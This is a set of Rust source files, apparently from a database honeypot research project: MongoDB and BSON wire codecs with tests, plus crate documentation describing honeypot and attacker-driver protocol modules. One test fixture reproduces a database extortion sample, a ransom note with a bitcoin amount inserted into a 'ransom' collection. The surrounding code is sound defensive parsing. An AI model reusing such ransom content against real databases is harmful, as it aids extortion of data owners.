    match body {
        MongoBody::Msg {
            flags,
            doc,
            sequences,
        } => {
            out.put_u32_le(flags & !0x1); // never emit checksums
            out.put_u8(0);
            bson::encode_document(doc, out);
            for (identifier, docs) in sequences {
                out.put_u8(1);
                let mut section = BytesMut::new();
                section.extend_from_slice(identifier.as_bytes());
                section.put_u8(0);
                for d in docs {
                    bson::encode_document(d, &mut section);
                }
                out.put_i32_le(4 + section.len() as i32);
                out.extend_from_slice(&section);
            }
            Ok(OP_MSG)
        }
        MongoBody::Query {
            collection,
            skip,
            limit,
            query,
        } => {
            out.put_i32_le(0); // flags
            out.extend_from_slice(collection.as_bytes());
            out.put_u8(0);
            out.put_i32_le(*skip);
            out.put_i32_le(*limit);
            bson::encode_document(query, out);
            Ok(OP_QUERY)
        }
        MongoBody::Reply {
            cursor_id,
            starting_from,
            documents,
        } => {
            out.put_i32_le(8); // responseFlags: AwaitCapable
            out.put_i64_le(*cursor_id);
            out.put_i32_le(*starting_from);
            out.put_i32_le(documents.len() as i32);
            for d in documents {
                bson::encode_document(d, out);
            }
            Ok(OP_REPLY)
        }
        MongoBody::Unknown { opcode, bytes } => {
            out.extend_from_slice(bytes);
            Ok(*opcode)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::bson::{doc, Bson};
    use super::*;

    fn roundtrip(msg: MongoMessage) -> MongoMessage {
        let mut codec = MongoCodec;
        let mut buf = BytesMut::new();
        codec.encode(&msg, &mut buf).unwrap();
        let decoded = codec.decode(&mut buf).unwrap().unwrap();
        assert!(buf.is_empty());
        decoded
    }

    #[test]
    fn op_msg_roundtrip() {
        let msg = MongoMessage::msg(
            7,
            doc! { "find" => "customers", "$db" => "shop", "limit" => 100i32 },
        );
        let decoded = roundtrip(msg.clone());
        assert_eq!(decoded, msg);
        assert_eq!(decoded.command_name().as_deref(), Some("find"));
    }

    #[test]
    fn op_msg_with_sequences() {
        let msg = MongoMessage {
            request_id: 1,
            response_to: 0,
            body: MongoBody::Msg {
                flags: 0,
                doc: doc! { "insert" => "notes", "$db" => "ransom" },
                sequences: vec![(
                    "documents".into(),
                    vec![
                        doc! { "note" => "All your data is backed up." },
                        doc! { "btc" => 0.0058f64 },
                    ],
                )],
            },
        };
        assert_eq!(roundtrip(msg.clone()), msg);
    }

    #[test]
    fn legacy_ismaster_query_and_reply() {
        let query = MongoMessage {
            request_id: 42,
            response_to: 0,
            body: MongoBody::Query {
                collection: "admin.$cmd".into(),
                skip: 0,
                limit: -1,
                query: doc! { "isMaster" => 1i32 },
            },
        };
        let decoded = roundtrip(query.clone());
        assert_eq!(decoded, query);
        assert_eq!(decoded.command_name().as_deref(), Some("ismaster"));

        let reply = MongoMessage::reply(
            &query,
            vec![doc! { "ismaster" => true, "maxWireVersion" => 17i32, "ok" => 1.0f64 }],
        );
        let decoded = roundtrip(reply.clone());
        assert_eq!(decoded, reply);
        assert_eq!(decoded.response_to, 42);
    }

    #[test]
    fn checksum_flag_is_tolerated() {
        let msg = MongoMessage::msg(1, doc! { "ping" => 1i32 });
        let mut codec = MongoCodec;
        let mut buf = BytesMut::new();
        codec.encode(&msg, &mut buf).unwrap();
        // Rewrite as checksum-present: bump length by 4, set flag bit, append crc.
        let new_len = (buf.len() + 4) as i32;
        buf[0..4].copy_from_slice(&new_len.to_le_bytes());
        buf[16] |= 0x1;
        buf.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
        let decoded = codec.decode(&mut buf).unwrap().unwrap();
        assert_eq!(decoded.command_name().as_deref(), Some("ping"));
    }

    #[test]
    fn unknown_opcode_is_preserved() {
        let msg = MongoMessage {
            request_id: 5,
            response_to: 0,
            body: MongoBody::Unknown {
                opcode: 2010,
                bytes: vec![1, 2, 3],
            },
        };
        assert_eq!(roundtrip(msg.clone()), msg);
    }

    #[test]
    fn partial_messages_wait_for_more() {
        let msg = MongoMessage::msg(9, doc! { "listDatabases" => 1i32 });
        let mut codec = MongoCodec;
        let mut full = BytesMut::new();
        codec.encode(&msg, &mut full).unwrap();
        for cut in 1..full.len() {
            let mut partial = BytesMut::from(&full[..cut]);
            assert!(codec.decode(&mut partial).unwrap().is_none(), "cut {cut}");
            assert_eq!(partial.len(), cut);
        }
    }

    #[test]
    fn hostile_lengths_rejected() {
        let mut codec = MongoCodec;
        let mut buf = BytesMut::from(&(-5i32).to_le_bytes()[..]);
        buf.extend_from_slice(&[0u8; 12]);
        assert!(codec.decode(&mut buf).is_err());
        let mut buf = BytesMut::new();
        buf.put_i32_le(i32::MAX);
        buf.extend_from_slice(&[0u8; 12]);
        assert!(codec.decode(&mut buf).is_err());
    }

    #[test]
    fn command_name_of_reply_is_none() {
        let q = MongoMessage::msg(1, doc! { "ping" => 1i32 });
        let r = MongoMessage::reply(&q, vec![]);
        assert_eq!(r.command_name(), None);
        assert_eq!(Bson::from("x"), Bson::String("x".into()));
    }
}
