#![warn(missing_docs)]
#![forbid(unsafe_code)]
// Every byte entering this crate is attacker-controlled. Parsing must be
// total: Ok or Err, never a panic. `decoy-xtask lint` enforces the same
// wall (plus slice-indexing and `as`-truncation bans) with file:line
// diagnostics; see DESIGN.md "Threat model of the byte path".
#![cfg_attr(
    not(test),
    deny(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::indexing_slicing,
        clippy::panic
    )
)]

//! # decoy-wire
//!
//! From-scratch wire-protocol implementations for every database the paper's
//! honeypots emulate, each with **both** the server side (used by
//! `decoy-honeypots`) and the client side (used by the attacker drivers in
//! `decoy-agents`), so recorded interactions traverse real protocol code in
//! both directions.
//!
//! | Module | Protocol | Used by |
//! |---|---|---|
//! | [`resp`] | Redis RESP2 (+ inline commands) | low + medium Redis honeypots |
//! | [`pgwire`] | PostgreSQL frontend/backend v3 | low + medium (Sticky-Elephant-style) PostgreSQL |
//! | [`mysql`] | MySQL client/server protocol (handshake v10) | low MySQL |
//! | [`tds`] | MS SQL Server TDS (PRELOGIN / LOGIN7) | low MSSQL |
//! | [`mongo`] | MongoDB `OP_MSG`/`OP_QUERY` over our own [`mongo::bson`] codec | high MongoDB |
//! | [`http`] | minimal HTTP/1.1 | medium Elasticsearch (Elasticpot-style) |
//! | [`foreign`] | non-database payloads thrown at database ports (RDP `mstshash`, JDWP handshake, VMware SOAP recon) | classification + agents |
//!
//! All codecs implement [`decoy_net::Codec`]: incremental, bounded, and
//! tolerant of adversarial bytes. Decoding is *total* — every input yields
//! `Ok` or a structured [`decoy_net::WireError`]; panics are forbidden by
//! the `decoy-xtask lint` wall and exercised by the mutation harness in
//! `tests/wire_total.rs`.

pub mod foreign;
pub mod http;
pub mod mongo;
pub mod mysql;
pub mod pgwire;
pub mod resp;
pub mod tds;

/// Hard ceiling on any single frame accepted from a peer, shared by every
/// codec in this crate. Individual protocols may enforce tighter limits
/// (and most do), but no attacker-supplied length field may commit us to
/// buffering more than this, no matter what the frame header claims.
pub const MAX_FRAME: usize = 48 << 20;
