#![warn(missing_docs)]

//! # decoy-wire
//!
//! From-scratch wire-protocol implementations for every database the paper's
//! honeypots emulate, each with **both** the server side (used by
//! `decoy-honeypots`) and the client side (used by the attacker drivers in
//! `decoy-agents`), so recorded interactions traverse real protocol code in
//! both directions.
//!
//! | Module | Protocol | Used by |
//! |---|---|---|
//! | [`resp`] | Redis RESP2 (+ inline commands) | low + medium Redis honeypots |
//! | [`pgwire`] | PostgreSQL frontend/backend v3 | low + medium (Sticky-Elephant-style) PostgreSQL |
//! | [`mysql`] | MySQL client/server protocol (handshake v10) | low MySQL |
//! | [`tds`] | MS SQL Server TDS (PRELOGIN / LOGIN7) | low MSSQL |
//! | [`mongo`] | MongoDB `OP_MSG`/`OP_QUERY` over our own [`mongo::bson`] codec | high MongoDB |
//! | [`http`] | minimal HTTP/1.1 | medium Elasticsearch (Elasticpot-style) |
//! | [`foreign`] | non-database payloads thrown at database ports (RDP `mstshash`, JDWP handshake, VMware SOAP recon) | classification + agents |
//!
//! All codecs implement [`decoy_net::Codec`]: incremental, bounded, and
//! tolerant of adversarial bytes (they return protocol errors; they never
//! panic — enforced by property tests).

pub mod foreign;
pub mod http;
pub mod mongo;
pub mod mysql;
pub mod pgwire;
pub mod resp;
pub mod tds;
