//! BSON (Binary JSON) encode/decode, implemented from scratch.
//!
//! Covers the element types every observed MongoDB interaction needs:
//! double, string, embedded document, array, binary, ObjectId, bool, UTC
//! datetime, null, int32, int64. Unknown element types are a decode error —
//! the honeypot logs the raw message instead of guessing.
//!
//! Decoding is total: every attacker-declared length is checked before any
//! read, and violations surface as [`decoy_net::WireError`] values with the
//! byte offset of the damage ([`WireProtocol::Bson`]).

use bytes::{BufMut, BytesMut};
use decoy_net::cursor::sat_i32;
use decoy_net::error::{NetError, NetResult, WireError, WireErrorKind, WireProtocol};

/// Maximum nesting depth of embedded documents/arrays.
const MAX_DEPTH: u32 = 64;
/// Maximum elements in one document.
const MAX_ELEMENTS: usize = 100_000;

/// A BSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Bson {
    /// 0x01 — 64-bit IEEE 754.
    Double(f64),
    /// 0x02 — UTF-8 string.
    String(String),
    /// 0x03 — embedded document.
    Document(Document),
    /// 0x04 — array.
    Array(Vec<Bson>),
    /// 0x05 — binary, subtype 0.
    Binary(Vec<u8>),
    /// 0x07 — 12-byte ObjectId.
    ObjectId([u8; 12]),
    /// 0x08 — boolean.
    Bool(bool),
    /// 0x09 — UTC datetime, millis since epoch.
    DateTime(i64),
    /// 0x0A — null.
    Null,
    /// 0x10 — 32-bit integer.
    Int32(i32),
    /// 0x12 — 64-bit integer.
    Int64(i64),
}

impl Bson {
    /// Interpret as a number, coercing int/double (MongoDB command args are
    /// frequently `1`, `1.0`, or `1i64` interchangeably).
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Bson::Double(d) => Some(*d),
            Bson::Int32(i) => Some(f64::from(*i)),
            Bson::Int64(i) => Some(*i as f64),
            Bson::Bool(b) => Some(if *b { 1.0 } else { 0.0 }),
            _ => None,
        }
    }

    /// String payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Bson::String(s) => Some(s),
            _ => None,
        }
    }

    /// Document payload, if this is a document.
    pub fn as_doc(&self) -> Option<&Document> {
        match self {
            Bson::Document(d) => Some(d),
            _ => None,
        }
    }

    /// Array payload, if this is an array.
    pub fn as_array(&self) -> Option<&[Bson]> {
        match self {
            Bson::Array(a) => Some(a),
            _ => None,
        }
    }
}

impl From<&str> for Bson {
    fn from(s: &str) -> Self {
        Bson::String(s.to_string())
    }
}
impl From<String> for Bson {
    fn from(s: String) -> Self {
        Bson::String(s)
    }
}
impl From<i32> for Bson {
    fn from(i: i32) -> Self {
        Bson::Int32(i)
    }
}
impl From<i64> for Bson {
    fn from(i: i64) -> Self {
        Bson::Int64(i)
    }
}
impl From<f64> for Bson {
    fn from(d: f64) -> Self {
        Bson::Double(d)
    }
}
impl From<bool> for Bson {
    fn from(b: bool) -> Self {
        Bson::Bool(b)
    }
}
impl From<Document> for Bson {
    fn from(d: Document) -> Self {
        Bson::Document(d)
    }
}
impl From<Vec<Bson>> for Bson {
    fn from(a: Vec<Bson>) -> Self {
        Bson::Array(a)
    }
}

/// An ordered BSON document (insertion order is significant on the wire —
/// the first key of a command document *is* the command).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Document {
    entries: Vec<(String, Bson)>,
}

impl Document {
    /// An empty document.
    pub fn new() -> Self {
        Document::default()
    }

    /// Append or replace `key`.
    pub fn insert(&mut self, key: impl Into<String>, value: impl Into<Bson>) {
        let key = key.into();
        let value = value.into();
        if let Some(slot) = self.entries.iter_mut().find(|(k, _)| *k == key) {
            slot.1 = value;
        } else {
            self.entries.push((key, value));
        }
    }

    /// Builder-style insert.
    pub fn with(mut self, key: impl Into<String>, value: impl Into<Bson>) -> Self {
        self.insert(key, value);
        self
    }

    /// Value for `key`.
    pub fn get(&self, key: &str) -> Option<&Bson> {
        self.entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// String value for `key`.
    pub fn get_str(&self, key: &str) -> Option<&str> {
        self.get(key).and_then(Bson::as_str)
    }

    /// Numeric value for `key`.
    pub fn get_f64(&self, key: &str) -> Option<f64> {
        self.get(key).and_then(Bson::as_f64)
    }

    /// Document value for `key`.
    pub fn get_doc(&self, key: &str) -> Option<&Document> {
        self.get(key).and_then(Bson::as_doc)
    }

    /// Iterate keys in order.
    pub fn keys(&self) -> impl Iterator<Item = &str> {
        self.entries.iter().map(|(k, _)| k.as_str())
    }

    /// Iterate entries in order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &Bson)> {
        self.entries.iter().map(|(k, v)| (k.as_str(), v))
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if there are no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Remove `key`, returning its value.
    pub fn remove(&mut self, key: &str) -> Option<Bson> {
        let idx = self.entries.iter().position(|(k, _)| k == key)?;
        Some(self.entries.remove(idx).1)
    }
}

impl FromIterator<(String, Bson)> for Document {
    fn from_iter<T: IntoIterator<Item = (String, Bson)>>(iter: T) -> Self {
        let mut d = Document::new();
        for (k, v) in iter {
            d.insert(k, v);
        }
        d
    }
}

/// Construct a [`Document`] literally: `doc! { "find" => "users", "limit" => 1i32 }`.
#[macro_export]
macro_rules! doc {
    () => { $crate::mongo::bson::Document::new() };
    ( $( $k:expr => $v:expr ),+ $(,)? ) => {{
        let mut d = $crate::mongo::bson::Document::new();
        $( d.insert($k, $v); )+
        d
    }};
}
pub use crate::doc;

const TYPE_DOUBLE: u8 = 0x01;
const TYPE_STRING: u8 = 0x02;
const TYPE_DOC: u8 = 0x03;
const TYPE_ARRAY: u8 = 0x04;
const TYPE_BINARY: u8 = 0x05;
const TYPE_OBJECTID: u8 = 0x07;
const TYPE_BOOL: u8 = 0x08;
const TYPE_DATETIME: u8 = 0x09;
const TYPE_NULL: u8 = 0x0A;
const TYPE_INT32: u8 = 0x10;
const TYPE_INT64: u8 = 0x12;

/// Shorthand for a BSON wire error at `offset`.
fn berr(offset: usize, kind: WireErrorKind) -> NetError {
    WireError::new(WireProtocol::Bson, offset, kind).into()
}

/// Append the BSON encoding of `doc` to `out`.
pub fn encode_document(doc: &Document, out: &mut BytesMut) {
    let start = out.len();
    out.put_i32_le(0); // patched below
    for (key, value) in doc.iter() {
        encode_element(key, value, out);
    }
    out.put_u8(0);
    let len = sat_i32(out.len().saturating_sub(start));
    if let Some(slot) = out.get_mut(start..start + 4) {
        slot.copy_from_slice(&len.to_le_bytes());
    }
}

fn encode_element(key: &str, value: &Bson, out: &mut BytesMut) {
    let put_key = |out: &mut BytesMut, t: u8| {
        out.put_u8(t);
        out.extend_from_slice(key.as_bytes());
        out.put_u8(0);
    };
    match value {
        Bson::Double(d) => {
            put_key(out, TYPE_DOUBLE);
            out.put_f64_le(*d);
        }
        Bson::String(s) => {
            put_key(out, TYPE_STRING);
            out.put_i32_le(sat_i32(s.len().saturating_add(1)));
            out.extend_from_slice(s.as_bytes());
            out.put_u8(0);
        }
        Bson::Document(d) => {
            put_key(out, TYPE_DOC);
            encode_document(d, out);
        }
        Bson::Array(items) => {
            put_key(out, TYPE_ARRAY);
            let as_doc: Document = items
                .iter()
                .enumerate()
                .map(|(i, v)| (i.to_string(), v.clone()))
                .collect();
            encode_document(&as_doc, out);
        }
        Bson::Binary(b) => {
            put_key(out, TYPE_BINARY);
            out.put_i32_le(sat_i32(b.len()));
            out.put_u8(0); // generic subtype
            out.extend_from_slice(b);
        }
        Bson::ObjectId(oid) => {
            put_key(out, TYPE_OBJECTID);
            out.extend_from_slice(oid);
        }
        Bson::Bool(b) => {
            put_key(out, TYPE_BOOL);
            out.put_u8(u8::from(*b));
        }
        Bson::DateTime(ms) => {
            put_key(out, TYPE_DATETIME);
            out.put_i64_le(*ms);
        }
        Bson::Null => put_key(out, TYPE_NULL),
        Bson::Int32(i) => {
            put_key(out, TYPE_INT32);
            out.put_i32_le(*i);
        }
        Bson::Int64(i) => {
            put_key(out, TYPE_INT64);
            out.put_i64_le(*i);
        }
    }
}

/// Decode one document from the front of `bytes`; returns `(doc, consumed)`.
pub fn decode_document(bytes: &[u8]) -> NetResult<(Document, usize)> {
    decode_document_depth(bytes, 0, 0)
}

/// Like [`decode_document`], but error offsets are reported relative to
/// `base` — used when `bytes` is a slice of a larger wire message.
pub fn decode_document_at(bytes: &[u8], base: usize) -> NetResult<(Document, usize)> {
    decode_document_depth(bytes, base, 0)
}

fn decode_document_depth(bytes: &[u8], base: usize, depth: u32) -> NetResult<(Document, usize)> {
    if depth > MAX_DEPTH {
        return Err(berr(
            base,
            WireErrorKind::NestingTooDeep { limit: MAX_DEPTH },
        ));
    }
    let Some(&len_bytes) = bytes.first_chunk::<4>() else {
        return Err(berr(
            base,
            WireErrorKind::Truncated {
                needed: 5,
                available: bytes.len(),
            },
        ));
    };
    let declared = i32::from_le_bytes(len_bytes);
    let len = usize::try_from(declared)
        .ok()
        .filter(|&n| n >= 5 && n <= bytes.len())
        .ok_or_else(|| {
            berr(
                base,
                WireErrorKind::LengthOutOfRange {
                    declared: u64::try_from(declared).unwrap_or(0),
                    max: bytes.len() as u64,
                },
            )
        })?;
    if bytes.get(len - 1) != Some(&0) {
        return Err(berr(
            base + len - 1,
            WireErrorKind::Malformed {
                detail: "bson document missing terminator",
            },
        ));
    }
    let mut rest = bytes.get(4..len - 1).unwrap_or_default();
    let mut at = base + 4;
    let mut doc = Document::new();
    while let Some((&etype, tail)) = rest.split_first() {
        at += 1;
        let nul = tail.iter().position(|&b| b == 0).ok_or_else(|| {
            berr(
                at,
                WireErrorKind::Unterminated {
                    what: "element name",
                },
            )
        })?;
        let key = String::from_utf8_lossy(tail.get(..nul).unwrap_or_default()).into_owned();
        let value_bytes = tail.get(nul + 1..).unwrap_or_default();
        at += nul + 1;
        let (value, used) = decode_value(etype, value_bytes, at, depth)?;
        rest = value_bytes.get(used..).unwrap_or_default();
        at += used;
        doc.entries.push((key, value));
        if doc.entries.len() > MAX_ELEMENTS {
            return Err(berr(
                at,
                WireErrorKind::TooManyElements {
                    limit: MAX_ELEMENTS as u64,
                },
            ));
        }
    }
    Ok((doc, len))
}

fn decode_value(etype: u8, bytes: &[u8], base: usize, depth: u32) -> NetResult<(Bson, usize)> {
    let truncated = |n: usize| {
        berr(
            base,
            WireErrorKind::Truncated {
                needed: n,
                available: bytes.len(),
            },
        )
    };
    match etype {
        TYPE_DOUBLE => {
            let &b = bytes.first_chunk::<8>().ok_or_else(|| truncated(8))?;
            Ok((Bson::Double(f64::from_le_bytes(b)), 8))
        }
        TYPE_STRING => {
            let &b = bytes.first_chunk::<4>().ok_or_else(|| truncated(4))?;
            let declared = i32::from_le_bytes(b);
            let slen = usize::try_from(declared)
                .ok()
                .filter(|&n| n >= 1 && n <= bytes.len().saturating_sub(4))
                .ok_or_else(|| {
                    berr(
                        base,
                        WireErrorKind::LengthOutOfRange {
                            declared: u64::try_from(declared).unwrap_or(0),
                            max: bytes.len() as u64,
                        },
                    )
                })?;
            if bytes.get(4 + slen - 1) != Some(&0) {
                return Err(berr(
                    base + 4 + slen - 1,
                    WireErrorKind::Malformed {
                        detail: "bson string missing NUL",
                    },
                ));
            }
            let s = String::from_utf8_lossy(bytes.get(4..4 + slen - 1).unwrap_or_default())
                .into_owned();
            Ok((Bson::String(s), 4 + slen))
        }
        TYPE_DOC => {
            let (d, used) = decode_document_depth(bytes, base, depth + 1)?;
            Ok((Bson::Document(d), used))
        }
        TYPE_ARRAY => {
            let (d, used) = decode_document_depth(bytes, base, depth + 1)?;
            let items = d.entries.into_iter().map(|(_, v)| v).collect();
            Ok((Bson::Array(items), used))
        }
        TYPE_BINARY => {
            let &b = bytes.first_chunk::<4>().ok_or_else(|| truncated(5))?;
            let declared = i32::from_le_bytes(b);
            let blen = usize::try_from(declared)
                .ok()
                .filter(|&n| n <= bytes.len().saturating_sub(5))
                .ok_or_else(|| {
                    berr(
                        base,
                        WireErrorKind::LengthOutOfRange {
                            declared: u64::try_from(declared).unwrap_or(0),
                            max: bytes.len() as u64,
                        },
                    )
                })?;
            let data = bytes.get(5..5 + blen).unwrap_or_default();
            Ok((Bson::Binary(data.to_vec()), 5 + blen))
        }
        TYPE_OBJECTID => {
            let &oid = bytes.first_chunk::<12>().ok_or_else(|| truncated(12))?;
            Ok((Bson::ObjectId(oid), 12))
        }
        TYPE_BOOL => {
            let &b = bytes.first().ok_or_else(|| truncated(1))?;
            Ok((Bson::Bool(b != 0), 1))
        }
        TYPE_DATETIME => {
            let &b = bytes.first_chunk::<8>().ok_or_else(|| truncated(8))?;
            Ok((Bson::DateTime(i64::from_le_bytes(b)), 8))
        }
        TYPE_NULL => Ok((Bson::Null, 0)),
        TYPE_INT32 => {
            let &b = bytes.first_chunk::<4>().ok_or_else(|| truncated(4))?;
            Ok((Bson::Int32(i32::from_le_bytes(b)), 4))
        }
        TYPE_INT64 => {
            let &b = bytes.first_chunk::<8>().ok_or_else(|| truncated(8))?;
            Ok((Bson::Int64(i64::from_le_bytes(b)), 8))
        }
        _ => Err(berr(
            base,
            WireErrorKind::BadMagic {
                what: "bson element type",
            },
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(doc: &Document) -> Document {
        let mut buf = BytesMut::new();
        encode_document(doc, &mut buf);
        let (decoded, used) = decode_document(&buf).unwrap();
        assert_eq!(used, buf.len());
        decoded
    }

    #[test]
    fn empty_document_is_five_bytes() {
        let mut buf = BytesMut::new();
        encode_document(&Document::new(), &mut buf);
        assert_eq!(&buf[..], &[5, 0, 0, 0, 0]);
        assert_eq!(roundtrip(&Document::new()), Document::new());
    }

    #[test]
    fn all_types_roundtrip() {
        let d = doc! {
            "double" => 3.5f64,
            "string" => "héllo",
            "doc" => doc! { "inner" => 1i32 },
            "array" => vec![Bson::Int32(1), Bson::String("two".into()), Bson::Null],
            "bool_t" => true,
            "bool_f" => false,
            "null" => Bson::Null,
            "i32" => -42i32,
            "i64" => 1i64 << 40,
        };
        let mut d = d;
        d.insert("bin", Bson::Binary(vec![0, 1, 2, 255]));
        d.insert("oid", Bson::ObjectId([7; 12]));
        d.insert("dt", Bson::DateTime(1_711_065_600_000));
        assert_eq!(roundtrip(&d), d);
    }

    #[test]
    fn insertion_order_is_preserved_and_first_key_wins() {
        let d = doc! { "find" => "users", "$db" => "admin", "limit" => 5i32 };
        let keys: Vec<_> = roundtrip(&d).keys().map(str::to_string).collect();
        assert_eq!(keys, vec!["find", "$db", "limit"]);
    }

    #[test]
    fn insert_replaces_existing_key() {
        let mut d = doc! { "a" => 1i32 };
        d.insert("a", 2i32);
        assert_eq!(d.len(), 1);
        assert_eq!(d.get_f64("a"), Some(2.0));
        assert_eq!(d.remove("a"), Some(Bson::Int32(2)));
        assert!(d.is_empty());
    }

    #[test]
    fn numeric_coercion() {
        assert_eq!(Bson::Int32(1).as_f64(), Some(1.0));
        assert_eq!(Bson::Int64(2).as_f64(), Some(2.0));
        assert_eq!(Bson::Double(0.5).as_f64(), Some(0.5));
        assert_eq!(Bson::Bool(true).as_f64(), Some(1.0));
        assert_eq!(Bson::Null.as_f64(), None);
    }

    #[test]
    fn hostile_documents_are_rejected_not_panicked() {
        // declared length longer than the buffer
        assert!(decode_document(&[50, 0, 0, 0, 0]).is_err());
        // negative length
        assert!(decode_document(&(-1i32).to_le_bytes()).is_err());
        // missing terminator
        assert!(decode_document(&[5, 0, 0, 0, 9]).is_err());
        // truncated string value
        let bad = [
            13, 0, 0, 0, // doc len
            0x02, b'a', 0, // string element "a"
            100, 0, 0, 0, // string length 100 (overruns)
            0, 0,
        ];
        assert!(decode_document(&bad).is_err());
        // unknown element type
        let bad = [8, 0, 0, 0, 0x7f, b'a', 0, 0];
        assert!(decode_document(&bad).is_err());
    }

    #[test]
    fn errors_carry_bson_protocol_and_offset() {
        let err = decode_document_at(&[50, 0, 0, 0, 0], 21).unwrap_err();
        match err {
            NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Bson);
                assert_eq!(w.offset, 21);
                assert!(matches!(w.kind, WireErrorKind::LengthOutOfRange { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }

    #[test]
    fn nested_bomb_is_bounded() {
        // Build a 100-deep nested document; decoder must refuse at depth 64.
        let mut inner = Document::new();
        for _ in 0..100 {
            let mut outer = Document::new();
            outer.insert("d", inner);
            inner = outer;
        }
        let mut buf = BytesMut::new();
        encode_document(&inner, &mut buf);
        assert!(decode_document(&buf).is_err());
    }

    #[test]
    fn array_indices_are_rebuilt() {
        let d = doc! { "a" => vec![Bson::Int32(10), Bson::Int32(20)] };
        let rt = roundtrip(&d);
        let arr = rt.get("a").unwrap().as_array().unwrap();
        assert_eq!(arr, &[Bson::Int32(10), Bson::Int32(20)]);
    }
}
