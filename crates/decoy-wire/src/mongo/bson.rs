//! BSON (Binary JSON) encode/decode, implemented from scratch.
//!
//! Covers the element types every observed MongoDB interaction needs:
//! double, string, embedded document, array, binary, ObjectId, bool, UTC
//! datetime, null, int32, int64. Unknown element types are a decode error —
//! the honeypot logs the raw message instead of guessing.

use bytes::{BufMut, BytesMut};
use decoy_net::error::{NetError, NetResult};

/// A BSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Bson {
    /// 0x01 — 64-bit IEEE 754.
    Double(f64),
    /// 0x02 — UTF-8 string.
    String(String),
    /// 0x03 — embedded document.
    Document(Document),
    /// 0x04 — array.
    Array(Vec<Bson>),
    /// 0x05 — binary, subtype 0.
    Binary(Vec<u8>),
    /// 0x07 — 12-byte ObjectId.
    ObjectId([u8; 12]),
    /// 0x08 — boolean.
    Bool(bool),
    /// 0x09 — UTC datetime, millis since epoch.
    DateTime(i64),
    /// 0x0A — null.
    Null,
    /// 0x10 — 32-bit integer.
    Int32(i32),
    /// 0x12 — 64-bit integer.
    Int64(i64),
}

impl Bson {
    /// Interpret as a number, coercing int/double (MongoDB command args are
    /// frequently `1`, `1.0`, or `1i64` interchangeably).
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Bson::Double(d) => Some(*d),
            Bson::Int32(i) => Some(*i as f64),
            Bson::Int64(i) => Some(*i as f64),
            Bson::Bool(b) => Some(*b as i32 as f64),
            _ => None,
        }
    }

    /// String payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Bson::String(s) => Some(s),
            _ => None,
        }
    }

    /// Document payload, if this is a document.
    pub fn as_doc(&self) -> Option<&Document> {
        match self {
            Bson::Document(d) => Some(d),
            _ => None,
        }
    }

    /// Array payload, if this is an array.
    pub fn as_array(&self) -> Option<&[Bson]> {
        match self {
            Bson::Array(a) => Some(a),
            _ => None,
        }
    }
}

impl From<&str> for Bson {
    fn from(s: &str) -> Self {
        Bson::String(s.to_string())
    }
}
impl From<String> for Bson {
    fn from(s: String) -> Self {
        Bson::String(s)
    }
}
impl From<i32> for Bson {
    fn from(i: i32) -> Self {
        Bson::Int32(i)
    }
}
impl From<i64> for Bson {
    fn from(i: i64) -> Self {
        Bson::Int64(i)
    }
}
impl From<f64> for Bson {
    fn from(d: f64) -> Self {
        Bson::Double(d)
    }
}
impl From<bool> for Bson {
    fn from(b: bool) -> Self {
        Bson::Bool(b)
    }
}
impl From<Document> for Bson {
    fn from(d: Document) -> Self {
        Bson::Document(d)
    }
}
impl From<Vec<Bson>> for Bson {
    fn from(a: Vec<Bson>) -> Self {
        Bson::Array(a)
    }
}

/// An ordered BSON document (insertion order is significant on the wire —
/// the first key of a command document *is* the command).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Document {
    entries: Vec<(String, Bson)>,
}

impl Document {
    /// An empty document.
    pub fn new() -> Self {
        Document::default()
    }

    /// Append or replace `key`.
    pub fn insert(&mut self, key: impl Into<String>, value: impl Into<Bson>) {
        let key = key.into();
        let value = value.into();
        if let Some(slot) = self.entries.iter_mut().find(|(k, _)| *k == key) {
            slot.1 = value;
        } else {
            self.entries.push((key, value));
        }
    }

    /// Builder-style insert.
    pub fn with(mut self, key: impl Into<String>, value: impl Into<Bson>) -> Self {
        self.insert(key, value);
        self
    }

    /// Value for `key`.
    pub fn get(&self, key: &str) -> Option<&Bson> {
        self.entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// String value for `key`.
    pub fn get_str(&self, key: &str) -> Option<&str> {
        self.get(key).and_then(Bson::as_str)
    }

    /// Numeric value for `key`.
    pub fn get_f64(&self, key: &str) -> Option<f64> {
        self.get(key).and_then(Bson::as_f64)
    }

    /// Document value for `key`.
    pub fn get_doc(&self, key: &str) -> Option<&Document> {
        self.get(key).and_then(Bson::as_doc)
    }

    /// Iterate keys in order.
    pub fn keys(&self) -> impl Iterator<Item = &str> {
        self.entries.iter().map(|(k, _)| k.as_str())
    }

    /// Iterate entries in order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &Bson)> {
        self.entries.iter().map(|(k, v)| (k.as_str(), v))
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if there are no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Remove `key`, returning its value.
    pub fn remove(&mut self, key: &str) -> Option<Bson> {
        let idx = self.entries.iter().position(|(k, _)| k == key)?;
        Some(self.entries.remove(idx).1)
    }
}

impl FromIterator<(String, Bson)> for Document {
    fn from_iter<T: IntoIterator<Item = (String, Bson)>>(iter: T) -> Self {
        let mut d = Document::new();
        for (k, v) in iter {
            d.insert(k, v);
        }
        d
    }
}

/// Construct a [`Document`] literally: `doc! { "find" => "users", "limit" => 1i32 }`.
#[macro_export]
macro_rules! doc {
    () => { $crate::mongo::bson::Document::new() };
